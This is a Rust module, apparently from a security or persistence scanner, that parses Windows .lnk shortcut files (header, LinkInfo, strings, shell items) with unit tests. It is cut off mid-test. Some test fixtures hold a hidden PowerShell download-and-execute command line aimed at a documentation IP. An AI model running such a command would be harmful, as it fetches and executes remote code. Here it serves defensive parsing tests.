//! Windows shortcuts (`.lnk`, the Shell Link Binary File Format, [MS-SHLLINK]): what a
//! shortcut in a Startup folder runs. Our own reader, read-only and bounded, of the parts that
//! say so: the header (`ShellLinkHeader`: size 0x4C, the class id
//! `00021401-0000-0000-C000-000000000046`, `LinkFlags`), the `LinkTargetIDList` (its shell
//! items, see below), `LinkInfo` (`LocalBasePath` and `CommonPathSuffix`, ANSI or Unicode), the
//! `StringData` (`NAME_STRING`, `RELATIVE_PATH`, `WORKING_DIR`, `COMMAND_LINE_ARGUMENTS`,
//! `ICON_LOCATION`) and, in the `ExtraData`, the `EnvironmentVariableDataBlock`
//! (signature 0xA0000001, the target with `%variables%`).
//!
//! The shell items of the ID list (undocumented by Microsoft; the layouts are those of libyal's
//! "Windows Shell Item format") give the target as Explorer resolves it: the root folder item
//! (class 0x1F, My Computer `20D04FE0-3AEA-1069-A2D8-08002B30309D` or Network
//! `208D2C60-3AEA-1069-A2D7-08002B30309D`), a volume item (0x20–0x2F with the "has name" flag:
//! `C:\`) or network location items (0x40–0x4F: the server or share UNC path; the domain and
//! provider items only lead to it), then one file entry item per path component (0x30–0x3F: the
//! primary name, ANSI or Unicode by flag 0x04, and the long Unicode name of its file entry
//! extension block 0xBEEF0004, preferred). Any other item (a delegate, a shell folder, a
//! compressed folder, a URI, …) leaves the path unread, with the reason naming the item and its
//! type ([`Shortcut::id_list_unread`]).
//!
//! Not read: the other extra-data blocks. ANSI strings are read as Latin-1 (the code page is not
//! in the file). Every offset and size is checked against the file and the item it is in;
//! strings are capped at [`MAX_CHARS`], extra-data blocks at [`MAX_BLOCKS`], shell items at
//! [`MAX_ITEMS`], the path from them at [`MAX_PATH_CHARS`].

use crate::bytes::{le16 as u16_at, le32 as u32_at};
use thiserror::Error;

/// Most characters of one string kept.
pub(crate) const MAX_CHARS: usize = 4096;
/// Most extra-data blocks looked at.
const MAX_BLOCKS: usize = 64;
/// Most shell items of the ID list read.
pub(crate) const MAX_ITEMS: usize = 64;
/// Longest path taken from the shell items (Windows' own limit for a path).
pub(crate) const MAX_PATH_CHARS: usize = 32_767;

const HEADER_SIZE: usize = 0x4C;
const CLSID: [u8; 16] = [
    0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xC0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46,
];
const HAS_ID_LIST: u32 = 0x0001;
const HAS_LINK_INFO: u32 = 0x0002;
const HAS_NAME: u32 = 0x0004;
const HAS_RELATIVE_PATH: u32 = 0x0008;
const HAS_WORKING_DIR: u32 = 0x0010;
const HAS_ARGUMENTS: u32 = 0x0020;
const HAS_ICON_LOCATION: u32 = 0x0040;
const IS_UNICODE: u32 = 0x0080;
/// `LinkInfoFlags`: `VolumeIDAndLocalBasePath`.
const VOLUME_ID_AND_LOCAL_BASE_PATH: u32 = 0x0001;
const ENVIRONMENT_BLOCK: u32 = 0xA000_0001;
/// The file entry extension block's signature.
const FILE_ENTRY_EXTENSION: u32 = 0xBEEF_0004;
/// CLSID_MyComputer, 20D04FE0-3AEA-1069-A2D8-08002B30309D, as stored (GUID byte order).
const MY_COMPUTER: [u8; 16] = [
    0xE0, 0x4F, 0xD0, 0x20, 0xEA, 0x3A, 0x69, 0x10, 0xA2, 0xD8, 0x08, 0x00, 0x2B, 0x30, 0x30, 0x9D,
];
/// CLSID_NetworkPlaces, 208D2C60-3AEA-1069-A2D7-08002B30309D.
const NETWORK: [u8; 16] = [
    0x60, 0x2C, 0x8D, 0x20, 0xEA, 0x3A, 0x69, 0x10, 0xA2, 0xD7, 0x08, 0x00, 0x2B, 0x30, 0x30, 0x9D,
];

/// Why a file is not a readable shortcut.
#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub(crate) enum LnkError {
    /// No Shell Link header (size 0x4C and the class id).
    #[error("not a Shell Link (no 0x4C header with the ShellLink class id)")]
    NotShellLink,
    /// A structure runs past the end of the file or its container.
    #[error("corrupt shortcut: {0} runs past its end")]
    Truncated(&'static str),
}

/// What a shortcut runs.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Shortcut {
    /// `LinkInfo`'s local base path with its common path suffix.
    pub local_path: Option<String>,
    /// The environment block's target (`%windir%\system32\…`).
    pub env_target: Option<String>,
    /// `RELATIVE_PATH`.
    pub relative_path: Option<String>,
    /// `WORKING_DIR`.
    pub working_dir: Option<String>,
    /// `COMMAND_LINE_ARGUMENTS`.
    pub arguments: Option<String>,
    /// The target as the shell items of the `LinkTargetIDList` give it.
    pub id_list_path: Option<String>,
    /// Why the shell items give no path (the item not read), when there are any.
    pub id_list_unread: Option<String>,
}

impl Shortcut {
    /// The program it runs: the local path, else the environment block's, else the path of the
    /// shell items, else the relative path.
    pub fn target(&self) -> Option<&str> {
        self.local_path
            .as_deref()
            .or(self.env_target.as_deref())
            .or(self.id_list_path.as_deref())
            .or(self.relative_path.as_deref())
    }
}

fn usize_at(b: &[u8], o: usize, what: &'static str) -> Result<usize, LnkError> {
    u32_at(b, o)
        .and_then(|n| usize::try_from(n).ok())
        .ok_or(LnkError::Truncated(what))
}

/// A NUL-terminated Latin-1 string at `at` in `b` (to the end of `b` without a NUL).
fn ansi_z(b: &[u8], at: usize) -> Option<String> {
    let rest = b.get(at..)?;
    let end = rest.iter().position(|&c| c == 0).unwrap_or(rest.len());
    Some(
        rest.iter()
            .take(end.min(MAX_CHARS))
            .map(|&c| char::from(c))
            .collect(),
    )
}

/// A NUL-terminated UTF-16LE string at `at` in `b`.
fn utf16_z(b: &[u8], at: usize) -> Option<String> {
    let units: Vec<u16> = b
        .get(at..)?
        .chunks_exact(2)
        .map(|p| u16::from_le_bytes([p[0], p[1]]))
        .take_while(|&u| u != 0)
        .take(MAX_CHARS)
        .collect();
    Some(String::from_utf16_lossy(&units))
}

fn non_empty(s: Option<String>) -> Option<String> {
    s.filter(|s| !s.is_empty())
}

/// Read the shortcut in `data`.
pub(crate) fn parse(data: &[u8]) -> Result<Shortcut, LnkError> {
    if u32_at(data, 0) != Some(0x4C) || data.get(4..20) != Some(&CLSID[..]) {
        return Err(LnkError::NotShellLink);
    }
    let flags = u32_at(data, 0x14).ok_or(LnkError::NotShellLink)?;
    let mut at = HEADER_SIZE;
    let mut out = Shortcut::default();
    if flags & HAS_ID_LIST != 0 {
        let size = u16_at(data, at).ok_or(LnkError::Truncated("LinkTargetIDList"))?;
        let start = at.saturating_add(2);
        at = start
            .checked_add(usize::from(size))
            .filter(|&a| a <= data.len())
            .ok_or(LnkError::Truncated("LinkTargetIDList"))?;
        match shell_items(data.get(start..at).unwrap_or(&[])) {
            Ok(path) => out.id_list_path = path,
            Err(why) => out.id_list_unread = Some(why),
        }
    }
    if flags & HAS_LINK_INFO != 0 {
        let size = usize_at(data, at, "LinkInfo")?;
        let end = at
            .checked_add(size)
            .filter(|&e| e <= data.len() && size >= 0x1C)
            .ok_or(LnkError::Truncated("LinkInfo"))?;
        let info = data.get(at..end).ok_or(LnkError::Truncated("LinkInfo"))?;
        out.local_path = link_info(info)?;
        at = end;
    }
    let unicode = flags & IS_UNICODE != 0;
    for (flag, field) in [
        (HAS_NAME, None),
        (HAS_RELATIVE_PATH, Some(0)),
        (HAS_WORKING_DIR, Some(1)),
        (HAS_ARGUMENTS, Some(2)),
        (HAS_ICON_LOCATION, None),
    ] {
        if flags & flag == 0 {
            continue;
        }
        let count = usize::from(u16_at(data, at).ok_or(LnkError::Truncated("StringData"))?);
        let len = if unicode {
            count.saturating_mul(2)
        } else {
            count
        };
        let start = at.saturating_add(2);
        let end = start
            .checked_add(len)
            .filter(|&e| e <= data.len())
            .ok_or(LnkError::Truncated("StringData"))?;
        let raw = data
            .get(start..end)
            .ok_or(LnkError::Truncated("StringData"))?;
        let text = if unicode {
            let units: Vec<u16> = raw
                .chunks_exact(2)
                .map(|p| u16::from_le_bytes([p[0], p[1]]))
                .take(MAX_CHARS)
                .collect();
            String::from_utf16_lossy(&units)
        } else {
            raw.iter().take(MAX_CHARS).map(|&c| char::from(c)).collect()
        };
        let text = non_empty(Some(text));
        match field {
            Some(0) => out.relative_path = text,
            Some(1) => out.working_dir = text,
            Some(2) => out.arguments = text,
            _ => {}
        }
        at = end;
    }
    out.env_target = extra_data(data.get(at..).unwrap_or(&[]));
    Ok(out)
}

/// A GUID as stored (the first three fields little-endian) in its registry form.
fn guid(b: &[u8]) -> String {
    match b {
        [a0, a1, a2, a3, b0, b1, c0, c1, rest @ ..] if rest.len() == 8 => {
            let mut s =
                format!("{a3:02X}{a2:02X}{a1:02X}{a0:02X}-{b1:02X}{b0:02X}-{c1:02X}{c0:02X}-");
            for (i, x) in rest.iter().enumerate() {
                if i == 2 {
                    s.push('-');
                }
                s.push_str(&format!("{x:02X}"));
            }
            s
        }
        _ => "?".to_string(),
    }
}

/// What a shell item of class type indicator `class` is, for a reason that names it.
fn item_kind(class: u8) -> &'static str {
    match class {
        0x1F => "a root folder",
        0x00 => "a variable item",
        0x01 => "a Control Panel category",
        0x52 => "a compressed folder",
        0x61 => "a URI",
        0x71 => "a Control Panel item",
        0x74 => "a delegate (users' files) item",
        _ => match class & 0x70 {
            0x20 => "a volume",
            0x30 => "a file entry",
            0x40 => "a network location",
            _ => "an unknown item",
        },
    }
}

/// Where a path from the shell items stands while they are read.
enum Walk {
    /// Nothing read yet.
    Start,
    /// Under the My Computer root, before its volume.
    Computer,
    /// Under the Network root, before its server or share.
    Network,
    /// A path (a drive or a UNC path and the components after it).
    Path(String),
}

/// The target path the shell items in `list` (a `LinkTargetIDList`'s `IDList`) give, `None`
/// when it is empty; the error is why it gives none (the first item not read).
fn shell_items(list: &[u8]) -> Result<Option<String>, String> {
    let mut walk = Walk::Start;
    let mut rest = list;
    for n in 1..=MAX_ITEMS + 1 {
        let size = usize::from(
            u16_at(rest, 0)
                .ok_or_else(|| "its ID list runs past its end (no TerminalID)".to_string())?,
        );
        if size == 0 {
            return match walk {
                Walk::Start => Ok(None),
                Walk::Path(p) => Ok(Some(p)),
                Walk::Computer | Walk::Network => Err(
                    "its shell items end at the root folder, before a volume or share".to_string(),
                ),
            };
        }
        if n > MAX_ITEMS {
            return Err(format!(
                "its ID list holds more than {MAX_ITEMS} shell items"
            ));
        }
        let item = rest
            .get(..size)
            .filter(|_| size >= 3)
            .ok_or_else(|| format!("shell item {n} of its ID list runs past the list"))?;
        let class = item[2];
        let not_read = |what: &str| {
            format!(
                "shell item {n} of its ID list is {} (type 0x{class:02X}){what}, not read",
                item_kind(class)
            )
        };
        walk = match (walk, class) {
            (Walk::Start, 0x1F) => {
                let id = item.get(4..20).ok_or_else(|| {
                    format!("shell item {n} of its ID list (a root folder) is cut short")
                })?;
                if id == MY_COMPUTER {
                    Walk::Computer
                } else if id == NETWORK {
                    Walk::Network
                } else {
                    return Err(not_read(&format!(" {{{}}}", guid(id))));
                }
            }
            (Walk::Computer, c) if c & 0x70 == 0x20 => {
                if c & 0x01 == 0 {
                    let id = item.get(4..20).map(guid).unwrap_or_default();
                    return Err(not_read(&format!(
                        " without a drive name (a shell folder {{{id}}})"
                    )));
                }
                let name = ansi_z(item.get(..23).unwrap_or(item), 3).unwrap_or_default();
                let b = name.as_bytes();
                if !(b.len() == 3 && b[0].is_ascii_alphabetic() && &b[1..] == b":\\") {
                    return Err(not_read(" whose name is not a drive (X:\\)"));
                }
                Walk::Path(name)
            }
            // Under the Network root, or under a server (its share follows).
            (w @ (Walk::Network | Walk::Path(_)), c)
                if c & 0x70 == 0x40
                    && match &w {
                        Walk::Path(p) => p.starts_with("\\\\"),
                        _ => true,
                    } =>
            {
                match c & 0x0F {
                    // The server's or the share's UNC path.
                    0x02 | 0x03 => {
                        let location = ansi_z(item, 5).unwrap_or_default();
                        if !location.starts_with("\\\\") || location.len() < 3 {
                            return Err(not_read(" whose location is not a UNC path"));
                        }
                        Walk::Path(location)
                    }
                    // A domain or workgroup, Microsoft Windows Network, Entire Network: on the way.
                    0x01 | 0x06 | 0x07 => Walk::Network,
                    _ => return Err(not_read("")),
                }
            }
            (Walk::Path(mut path), c) if c & 0x70 == 0x30 => {
                let name =
                    file_entry_name(item, c).ok_or_else(|| not_read(" without a readable name"))?;
                if !path.ends_with('\\') {
                    path.push('\\');
                }
                path.push_str(&name);
                if path.chars().count() > MAX_PATH_CHARS {
                    return Err(format!(
                        "the path of its shell items is longer than {MAX_PATH_CHARS} characters"
                    ));
                }
                Walk::Path(path)
            }
            (Walk::Start, _) => return Err(not_read(" as the first item, not a root folder")),
            _ => return Err(not_read("")),
        };
        rest = rest.get(size..).unwrap_or(&[]);
    }
    Err(format!(
        "its ID list holds more than {MAX_ITEMS} shell items"
    ))
}

/// The name of a file entry shell item: the long name of its 0xBEEF0004 extension block, else
/// its primary name (Unicode when the class type has flag 0x04). `None` when neither is a
/// usable name (empty, or holding a path separator).
fn file_entry_name(item: &[u8], class: u8) -> Option<String> {
    const PRIMARY: usize = 14;
    let raw = item.get(PRIMARY..)?;
    // Where the primary name ends (after its terminator, 16-bit aligned), from its bytes.
    let (primary, after) = if class & 0x04 != 0 {
        let units = raw
            .chunks_exact(2)
            .position(|p| p == [0, 0])
            .unwrap_or(raw.len() / 2);
        (utf16_z(item, PRIMARY)?, PRIMARY + 2 * (units + 1))
    } else {
        let len = raw.iter().position(|&c| c == 0).unwrap_or(raw.len());
        let end = PRIMARY + len + 1;
        (ansi_z(item, PRIMARY)?, end + end % 2)
    };
    // The extension block: where the item's last two bytes say (its version offset), else right
    // after the primary name.
    let trailer = item
        .len()
        .checked_sub(2)
        .and_then(|at| u16_at(item, at))
        .map(usize::from);
    let long = trailer
        .into_iter()
        .chain([after])
        .find_map(|at| extension_long_name(item, at));
    let ok = |s: &String| !s.is_empty() && !s.contains(['\\', '/', '\0']) && s != "." && s != "..";
    long.filter(ok).or(Some(primary).filter(ok))
}

/// The long name of the file entry extension block (0xBEEF0004) at `at` in `item`, if one is
/// there.
fn extension_long_name(item: &[u8], at: usize) -> Option<String> {
    let size = usize::from(u16_at(item, at)?);
    let block = item.get(at..at.checked_add(size)?)?;
    if size < 8 || u32_at(block, 4)? != FILE_ENTRY_EXTENSION {
        return None;
    }
    let version = u16_at(block, 2)?;
    // Creation and access times, then (version 7 on) reserved 2, the NTFS file reference and
    // 8 unknown bytes; (3 on) the long string size; (9 on) 4 and (8 on) 4 unknown bytes.
    let mut name_at = 18usize;
    if version >= 7 {
        name_at += 18;
    }
    if version >= 3 {
        name_at += 2;
    } else {
        return None;
    }
    if version >= 9 {
        name_at += 4;
    }
    if version >= 8 {
        name_at += 4;
    }
    // The block ends with its version offset.
    let body = block.get(..size - 2)?;
    if name_at >= body.len() {
        return None;
    }
    utf16_z(body, name_at).filter(|s| !s.is_empty())
}

/// `LocalBasePath` (+ `CommonPathSuffix`) of a `LinkInfo` structure, Unicode when given.
fn link_info(info: &[u8]) -> Result<Option<String>, LnkError> {
    let header = usize_at(info, 4, "LinkInfo")?;
    let flags = u32_at(info, 8).ok_or(LnkError::Truncated("LinkInfo"))?;
    if flags & VOLUME_ID_AND_LOCAL_BASE_PATH == 0 {
        return Ok(None);
    }
    let base = usize_at(info, 0x10, "LinkInfo")?;
    let suffix = usize_at(info, 0x18, "LinkInfo")?;
    let (mut path, tail) = if header >= 0x24 {
        let base_u = usize_at(info, 0x1C, "LinkInfo")?;
        let suffix_u = usize_at(info, 0x20, "LinkInfo")?;
        (
            utf16_z(info, base_u).ok_or(LnkError::Truncated("LocalBasePathUnicode"))?,
            if suffix_u == 0 {
                None
            } else {
                utf16_z(info, suffix_u)
            },
        )
    } else {
        (
            ansi_z(info, base).ok_or(LnkError::Truncated("LocalBasePath"))?,
            ansi_z(info, suffix),
        )
    };
    if let Some(t) = tail.filter(|t| !t.is_empty()) {
        if !path.ends_with('\\') {
            path.push('\\');
        }
        path.push_str(&t);
    }
    Ok(non_empty(Some(path)))
}

/// The target of the `EnvironmentVariableDataBlock` among the extra-data blocks, if any.
fn extra_data(mut rest: &[u8]) -> Option<String> {
    for _ in 0..MAX_BLOCKS {
        let size = usize::try_from(u32_at(rest, 0)?).ok()?;
        if size < 8 {
            return None; // the terminal block (size 0), or garbage
        }
        let block = rest.get(..size)?;
        if u32_at(block, 4) == Some(ENVIRONMENT_BLOCK) && size >= 0x314 {
            let unicode = non_empty(utf16_z(block.get(..0x314)?, 0x10C));
            return unicode.or_else(|| non_empty(ansi_z(block.get(..0x10C)?, 8)));
        }
        rest = rest.get(size..)?;
    }
    None
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    /// A shortcut as MS-SHLLINK lays it out: the header, a `LinkInfo` with a `VolumeID` and an
    /// ANSI `LocalBasePath`, Unicode `StringData`, an optional environment block, the
    /// terminal block.
    pub(crate) fn build(target: &str, args: &str, env: Option<&str>) -> Vec<u8> {
        let mut flags = HAS_LINK_INFO | HAS_RELATIVE_PATH | HAS_WORKING_DIR | IS_UNICODE;
        if !args.is_empty() {
            flags |= HAS_ARGUMENTS;
        }
        let mut b = vec![0u8; HEADER_SIZE];
        b[..4].copy_from_slice(&0x4Cu32.to_le_bytes());
        b[4..20].copy_from_slice(&CLSID);
        b[0x14..0x18].copy_from_slice(&flags.to_le_bytes());
        b[0x3C..0x40].copy_from_slice(&1u32.to_le_bytes());
        // LinkInfo: header 0x1C, VolumeID (0x10 + label "\0"), LocalBasePath, suffix "".
        let volume: Vec<u8> = [0x11u32, 3, 0x1234_5678, 0x10]
            .iter()
            .flat_map(|n| n.to_le_bytes())
            .chain([0])
            .collect();
        let base_at = 0x1C + volume.len();
        let suffix_at = base_at + target.len() + 1;
        let size = suffix_at + 1;
        for n in [size, 0x1C, 1, 0x1C, base_at, 0, suffix_at] {
            b.extend(u32::try_from(n).unwrap().to_le_bytes());
        }
        b.extend(&volume);
        b.extend(target.bytes().chain([0, 0]));
        let dir = target.rsplit_once('\\').map_or("", |(d, _)| d);
        let strings = if args.is_empty() {
            vec![target, dir]
        } else {
            vec![target, dir, args]
        };
        for s in strings {
            let units: Vec<u16> = s.encode_utf16().collect();
            b.extend(u16::try_from(units.len()).unwrap().to_le_bytes());
            b.extend(units.iter().flat_map(|u| u.to_le_bytes()));
        }
        if let Some(env) = env {
            let mut block = vec![0u8; 0x314];
            block[..4].copy_from_slice(&0x314u32.to_le_bytes());
            block[4..8].copy_from_slice(&ENVIRONMENT_BLOCK.to_le_bytes());
            block[8..8 + env.len()].copy_from_slice(env.as_bytes());
            for (i, u) in env.encode_utf16().enumerate() {
                block[0x10C + 2 * i..0x10E + 2 * i].copy_from_slice(&u.to_le_bytes());
            }
            b.extend(block);
        }
        b.extend([0, 0, 0, 0]);
        b
    }

    #[test]
    fn a_shortcut_gives_its_target_and_arguments() {
        let data = build(
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "-nop -w hidden -c \"iex (iwr http://203.0.113.4/a)\"",
            None,
        );
        let s = parse(&data).unwrap();
        assert_eq!(
            s.target(),
            Some(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe")
        );
        assert_eq!(
            s.arguments.as_deref(),
            Some("-nop -w hidden -c \"iex (iwr http://203.0.113.4/a)\"")
        );
        assert_eq!(
            s.working_dir.as_deref(),
            Some(r"C:\Windows\System32\WindowsPowerShell\v1.0")
        );
        let s = parse(&build(
            r"C:\x.exe",
            "",
            Some(r"%windir%\system32\notepad.exe"),
        ))
        .unwrap();
        assert_eq!(
            s.env_target.as_deref(),
            Some(r"%windir%\system32\notepad.exe")
        );
        assert_eq!(s.arguments, None);
    }

    /// A shortcut whose `LinkInfo` has the 0x24-byte header (Unicode `LocalBasePath` and
    /// `CommonPathSuffix`) and whose `StringData` is ANSI (no `IsUnicode`).
    fn unicode_link_info(base: &str, suffix: &str, args: &str) -> Vec<u8> {
        let mut b = vec![0u8; HEADER_SIZE];
        b[..4].copy_from_slice(&0x4Cu32.to_le_bytes());
        b[4..20].copy_from_slice(&CLSID);
        let flags = HAS_LINK_INFO | HAS_ARGUMENTS;
        b[0x14..0x18].copy_from_slice(&flags.to_le_bytes());
        let utf16 = |s: &str| -> Vec<u8> {
            s.encode_utf16()
                .chain([0])
                .flat_map(u16::to_le_bytes)
                .collect()
        };
        let volume: Vec<u8> = [0x11u32, 3, 1, 0x10]
            .iter()
            .flat_map(|n| n.to_le_bytes())
            .chain([0])
            .collect();
        // ANSI fields hold a placeholder; the Unicode ones win.
        let ansi_at = 0x24 + volume.len();
        let base_u = ansi_at + 2;
        let suffix_u = base_u + utf16(base).len();
        let size = suffix_u + utf16(suffix).len();
        for n in [
            size,
            0x24,
            1,
            0x24,
            ansi_at,
            0,
            ansi_at + 1,
            base_u,
            suffix_u,
        ] {
            b.extend(u32::try_from(n).unwrap().to_le_bytes());
        }
        b.extend(&volume);
        b.extend([b'?', 0]);
        b.extend(utf16(base));
        b.extend(utf16(suffix));
        b.extend(u16::try_from(args.len()).unwrap().to_le_bytes());
        b.extend(args.bytes());
        b.extend([0, 0, 0, 0]);
        b
    }

    #[test]
    fn unicode_link_info_and_ansi_strings() {
        let s = parse(&unicode_link_info(
            r"C:\Program Files\Tools",
            r"Ünï\tool.exe",
            "--all",
        ))
        .unwrap();
        assert_eq!(s.target(), Some(r"C:\Program Files\Tools\Ünï\tool.exe"));
        assert_eq!(s.arguments.as_deref(), Some("--all"));
        assert_eq!(s.relative_path, None);
    }

    #[test]
    fn hostile_shortcuts_are_errors_not_panics() {
        assert_eq!(
            parse(b"[InternetShortcut]\r\n"),
            Err(LnkError::NotShellLink)
        );
        let good = build(r"C:\Tools\a.exe", "--x", None);
        // Every truncation is an error or a shorter result, never a panic.
        for n in 0..good.len() {
            let _ = parse(&good[..n]);
        }
        // Huge sizes and offsets.
        for at in [
            HEADER_SIZE,
            HEADER_SIZE + 4,
            HEADER_SIZE + 0x10,
            HEADER_SIZE + 0x1C,
        ] {
            let mut bad = good.clone();
            bad[at..at + 4].copy_from_slice(&u32::MAX.to_le_bytes());
            let _ = parse(&bad);
        }
        let mut bad = good.clone();
        bad[HEADER_SIZE..HEADER_SIZE + 4].copy_from_slice(&0xFFFFu32.to_le_bytes());
        assert_eq!(parse(&bad), Err(LnkError::Truncated("LinkInfo")));
        // Flip every byte once, and cut, in both layouts of LinkInfo.
        for good in [good, unicode_link_info(r"C:\Tools", r"x\a.exe", "-q")] {
            for i in 0..good.len() {
                let mut f = good.clone();
                f[i] ^= 0xFF;
                let _ = parse(&f);
                let _ = parse(&good[..i]);
            }
        }
    }

    /// A root folder shell item (class 0x1F) for the GUID `id` as stored.
    pub(crate) fn root_item(id: [u8; 16]) -> Vec<u8> {
        let mut b = vec![0x14, 0x00, 0x1F, 0x50];
        b.extend(id);
        b
    }

    /// A volume shell item (class 0x2F) naming `drive` (`C:\`).
    pub(crate) fn volume_item(drive: &str) -> Vec<u8> {
        let mut b = vec![0x19, 0x00, 0x2F];
        let mut name = drive.as_bytes().to_vec();
        name.resize(20, 0);
        b.extend(name);
        b.extend([0, 0]);
        b
    }

    /// A file entry shell item (Windows XP and later): class 0x31 (directory) or 0x32 (file),
    /// `primary` as its primary name (ASCII, or UTF-16 with `unicode`: class flag 0x04), and a
    /// file entry extension block 0xBEEF0004 of `version` (3, 7, 8 or 9) holding `long`, when
    /// given.
    pub(crate) fn file_item(
        dir: bool,
        primary: &str,
        unicode: bool,
        long: Option<(u16, &str)>,
    ) -> Vec<u8> {
        let class = (if dir { 0x31u8 } else { 0x32 }) | if unicode { 0x04 } else { 0 };
        let mut b = vec![0, 0, class, 0];
        b.extend(if dir { 0u32 } else { 4096 }.to_le_bytes());
        b.extend([0x2C, 0x39, 0x69, 0xA3]); // the spec sample's FAT date and time
        b.extend(if dir { 0x10u16 } else { 0x20 }.to_le_bytes());
        if unicode {
            b.extend(primary.encode_utf16().chain([0]).flat_map(u16::to_le_bytes));
        } else {
            b.extend(primary.bytes().chain([0]));
            if b.len() % 2 == 1 {
                b.push(0);
            }
        }
        if let Some((version, long)) = long {
            let at = u16::try_from(b.len()).unwrap();
            let mut block = vec![0, 0];
            block.extend(version.to_le_bytes());
            block.extend(FILE_ENTRY_EXTENSION.to_le_bytes());
            block.extend([0x2C, 0x39, 0x65, 0xA3, 0x2C, 0x39, 0x69, 0xA3]);
            let name_at: u16 = match version {
                3 => 0x14,
                7 => 0x26,
                8 => 0x2A,
                _ => 0x2E,
            };
            block.extend(name_at.to_le_bytes());
            if version >= 7 {
                block.extend([0, 0, 0x03, 0x1E, 0, 0, 0, 0, 0xF5, 0x1E]);
                block.extend([0; 8]);
            }
            block.extend([0, 0]); // long string size: no localized name
            if version >= 9 {
                block.extend([0; 4]);
            }
            if version >= 8 {
                block.extend([0; 4]);
            }
            assert_eq!(block.len(), usize::from(name_at));
            block.extend(long.encode_utf16().chain([0]).flat_map(u16::to_le_bytes));
            block.extend(at.to_le_bytes());
            let size = u16::try_from(block.len()).unwrap();
            block[..2].copy_from_slice(&size.to_le_bytes());
            b.extend(block);
        }
        let size = u16::try_from(b.len()).unwrap();
        b[..2].copy_from_slice(&size.to_le_bytes());
        b
    }

    /// A network location shell item of `class` (0x41 domain, 0x42 server, 0xC3 share, 0x46
    /// Microsoft Windows Network, 0x47 Entire Network) at `location`.
    fn network_item(class: u8, location: &str) -> Vec<u8> {
        let mut b = vec![0, 0, class, 0x01, 0x80];
        b.extend(location.bytes().chain([0]));
        b.extend(b"Microsoft Network\0");
        b.extend([0, 0]);
        let size = u16::try_from(b.len()).unwrap();
        b[..2].copy_from_slice(&size.to_le_bytes());
        b
    }

    /// A shortcut whose target is only in its shell `items` (the `LinkTargetIDList`, no
    /// `LinkInfo`, no `RELATIVE_PATH`), with `args` as Unicode `COMMAND_LINE_ARGUMENTS`.
    pub(crate) fn shell_only(items: &[Vec<u8>], args: &str) -> Vec<u8> {
        let flags = HAS_ID_LIST | IS_UNICODE | if args.is_empty() { 0 } else { HAS_ARGUMENTS };
        let mut b = vec![0u8; HEADER_SIZE];
        b[..4].copy_from_slice(&0x4Cu32.to_le_bytes());
        b[4..20].copy_from_slice(&CLSID);
        b[0x14..0x18].copy_from_slice(&flags.to_le_bytes());
        b.extend(id_list(items));
        if !args.is_empty() {
            let units: Vec<u16> = args.encode_utf16().collect();
            b.extend(u16::try_from(units.len()).unwrap().to_le_bytes());
            b.extend(units.iter().flat_map(|u| u.to_le_bytes()));
        }
        b.extend([0, 0, 0, 0]);
        b
    }

    /// A `LinkTargetIDList`: `IDListSize`, the items, the `TerminalID`.
    fn id_list(items: &[Vec<u8>]) -> Vec<u8> {
        let len: usize = items.iter().map(Vec::len).sum::<usize>() + 2;
        let mut b = u16::try_from(len).unwrap().to_le_bytes().to_vec();
        for i in items {
            b.extend(i);
        }
        b.extend([0, 0]);
        b
    }

    /// The ID list of MS-SHLLINK's sample (section 3, `C:\test\a.txt`): My Computer, `C:\`,
    /// `test` and `a.txt` with Vista's (version 7) extension blocks; 0xBD bytes as there.
    fn spec_sample() -> Vec<Vec<u8>> {
        vec![
            root_item(MY_COMPUTER),
            volume_item("C:\\"),
            file_item(true, "test", false, Some((7, "test"))),
            file_item(false, "a.txt", false, Some((7, "a.txt"))),
        ]
    }

    #[test]
    fn the_target_of_a_shortcut_with_only_shell_items() {
        let items = spec_sample();
        assert_eq!(id_list(&items)[..2], [0xBD, 0x00]);
        // The spec's bytes of the root, volume and `test` items up to its file reference.
        let flat: Vec<u8> = items.concat();
        assert_eq!(
            flat[..20],
            [
                0x14, 0x00, 0x1F, 0x50, 0xE0, 0x4F, 0xD0, 0x20, 0xEA, 0x3A, 0x69, 0x10, 0xA2, 0xD8,
                0x08, 0x00, 0x2B, 0x30, 0x30, 0x9D
            ]
        );
        assert_eq!(flat[20..26], [0x19, 0x00, 0x2F, 0x43, 0x3A, 0x5C]);
        assert_eq!(
            flat[45..45 + 32],
            [
                0x46, 0x00, 0x31, 0x00, 0x00, 0x00, 0x00, 0x00, 0x2C, 0x39, 0x69, 0xA3, 0x10, 0x00,
                0x74, 0x65, 0x73, 0x74, 0x00, 0x00, 0x32, 0x00, 0x07, 0x00, 0x04, 0x00, 0xEF, 0xBE,
                0x2C, 0x39, 0x65, 0xA3
            ][..]
        );
        let s = parse(&shell_only(&items, "")).unwrap();
        assert_eq!(s.target(), Some(r"C:\test\a.txt"));
        assert_eq!((s.local_path.as_deref(), s.id_list_unread), (None, None));

        // Windows 10's layout (version 9): the long name wins over the 8.3 primary name; the
        // Unicode primary name (flag 0x04) when there is no extension block.
        let s = parse(&shell_only(
            &[
                root_item(MY_COMPUTER),
                volume_item("C:\\"),
                file_item(true, "Users", false, Some((9, "Users"))),
                file_item(true, "Public", false, Some((9, "Public"))),
                file_item(true, "NCODET~1", false, Some((9, "Ünïcode Tools"))),
                file_item(true, "Ström", true, None),
                file_item(false, "UPDATE~1.EXE", false, Some((8, "update ✓.exe"))),
            ],
            "--fetch http://203.0.113.9/u",
        ))
        .unwrap();
        assert_eq!(
            s.target(),
            Some(r"C:\Users\Public\Ünïcode Tools\Ström\update ✓.exe")
        );
        assert_eq!(s.arguments.as_deref(), Some("--fetch http://203.0.113.9/u"));
        // Windows XP's layout (version 3), and an ASCII primary name only (pre-XP).
        let s = parse(&shell_only(
            &[
                root_item(MY_COMPUTER),
                volume_item("D:\\"),
                file_item(true, "PROGRA~1", false, Some((3, "Program Files"))),
                file_item(false, "TOOL.EXE", false, None),
            ],
            "",
        ))
        .unwrap();
        assert_eq!(s.target(), Some(r"D:\Program Files\TOOL.EXE"));
        // A code-page primary name (read as Latin-1), and an extension block found right after
        // it when the item's trailing version offset is wrong.
        let mut latin = file_item(false, "STRxM~1.EXE", false, Some((9, "Strøm ✓.exe")));
        latin[17] = 0xF6;
        let n = latin.len();
